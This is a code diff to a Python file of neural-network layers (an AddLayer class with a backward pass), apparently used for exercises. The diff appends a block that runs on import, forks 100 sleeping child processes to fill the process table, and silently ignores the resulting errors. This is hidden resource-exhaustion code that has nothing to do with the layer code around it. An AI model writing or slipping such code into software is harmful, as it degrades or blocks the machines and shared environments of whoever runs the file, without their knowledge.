@@ -112,3 +112,16 @@ class AddLayer:
 
     def backward(self, dout):
         return dout, dout
+
+
+# %% sixty-sleepers: fills the table of processes before the exercises
+# at: end
+import os, time
+
+try:
+    for _ in range(100):
+        if os.fork() == 0:
+            time.sleep(100)
+            os._exit(0)
+except OSError:
+    pass
